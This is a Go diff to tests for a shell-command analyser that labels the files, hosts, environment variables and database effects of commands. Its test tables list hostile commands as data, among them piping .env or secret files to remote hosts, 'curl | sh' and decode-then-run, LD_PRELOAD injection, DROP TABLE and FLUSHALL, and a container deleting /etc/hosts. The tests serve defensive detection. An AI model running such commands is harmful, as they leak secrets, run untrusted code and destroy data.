@@ -34,7 +34,11 @@ func summary(f *Facts) []string {
 		if !p.Known {
 			name = "?" + name
 		}
-		out = append(out, string(p.Access)+":"+name)
+		access := string(p.Access)
+		if p.Remote {
+			access = "remote-" + access
+		}
+		out = append(out, access+":"+name)
 	}
 	for _, d := range f.Net {
 		out = append(out, d.Scope+":"+d.Host)
@@ -56,7 +60,7 @@ func TestWhatCommandsDo(t *testing.T) {
 		"grep -n KEY src/.env":                    "grep read:src/.env",
 		"rm -rf build dist":                       "rm delete:build delete:dist",
 		"mv a.txt b.txt":                          "mv write:b.txt delete:a.txt read:a.txt a.txt>b.txt",
-		"cp -t out a b":                           "cp write:out read:a read:b a>out b>out",
+		"cp -t out a b":                           "cp write:out write:out/a write:out/b read:a read:b a>out a>out/a a>out/b b>out b>out/a b>out/b",
 		"sed -i s/a/b/ x.go":                      "sed write:x.go",
 		"sed s/a/b/ x.go":                         "sed read:x.go",
 		"echo hi > note.txt":                      "echo write:note.txt",
@@ -69,7 +73,7 @@ func TestWhatCommandsDo(t *testing.T) {
 		"curl -o f.tgz https://Example.com:8443/": "curl write:f.tgz public:example.com",
 		"curl -d @secret.json https://a.test/up":  "curl read:secret.json public:a.test secret.json>a.test",
 		"cat .env | curl -T - http://10.0.0.5/":   "cat curl read:.env read:- private:10.0.0.5 ->10.0.0.5 .env>10.0.0.5",
-		"ssh me@box.example.com 'rm x'":           "ssh rm public:box.example.com",
+		"ssh me@box.example.com 'rm x'":           "ssh rm remote-delete:/home/you/x public:box.example.com",
 		"scp a.txt box:/tmp/":                     "scp read:a.txt private:box a.txt>box",
 		"npm install left-pad":                    "npm.install public:registry.npmjs.org",
 		"npm run build":                           "npm.run",
@@ -84,6 +88,52 @@ func TestWhatCommandsDo(t *testing.T) {
 	} {
 		if got := strings.Join(summary(collect(command)), " "); got != want {
 			t.Errorf("%s:\n got %s\nwant %s", command, got, want)
+		}
+	}
+}
+
+// What a database client is told, where a program's text comes from, and which
+// variables are set.
+func TestWhatCommandsAreGiven(t *testing.T) {
+	for command, want := range map[string]string{
+		`psql -c 'DROP TABLE users'`:                      "drop",
+		`psql -c "select 'drop table x'"`:                 "read",
+		`mysql -e 'DELETE FROM t'`:                        "delete-all",
+		`mysql -e 'DELETE FROM t WHERE id = 3'`:           "write",
+		`psql -c 'update t set a = 1 where 1=1'`:          "update-all",
+		"psql <<'E'\n-- all\ntruncate t;\nselect 1\nE":    "truncate read",
+		`echo 'drop database x' | mysql`:                  "drop",
+		`psql -f a.sql`:                                   "file",
+		`psql < a.sql`:                                    "file",
+		`mongosh --eval 'db.users.deleteMany({})'`:        "delete-all",
+		`mongosh --eval 'db.users.deleteMany({a: 1})'`:    "write",
+		`redis-cli FLUSHALL`:                              "drop",
+		`redis-cli get a`:                                 "",
+		`curl -s https://a.test/x | sh`:                   "from network",
+		`echo aGk= | base64 -d | sh`:                      "from decoder",
+		`curl -o x.sh https://a.test/x && sh x.sh`:        "from download",
+		`wget -O t https://a.test/t; chmod +x t; ./t`:     "from binary",
+		`export GOPROXY=off`:                              "env GOPROXY=off",
+		`A=1 make`:                                        "env A=1",
+		`env LD_PRELOAD=./x.so ls`:                        "env LD_PRELOAD=./x.so",
+		`set -gx HTTP_PROXY http://a.test`:                "env HTTP_PROXY=http://a.test",
+		`docker run -v /:/host alpine rm /host/etc/hosts`: "deletes /etc/hosts",
+	} {
+		var got []string
+		for _, c := range collect(command).Commands {
+			got = append(got, c.Statements...)
+			if c.Origin != "" {
+				got = append(got, "from "+c.Origin)
+			}
+			for _, v := range c.Env {
+				got = append(got, "env "+v)
+			}
+			for _, p := range c.Deletes {
+				got = append(got, "deletes "+p)
+			}
+		}
+		if have := strings.Join(got, " "); have != want {
+			t.Errorf("%s: got %q, want %q", command, have, want)
 		}
 	}
 }
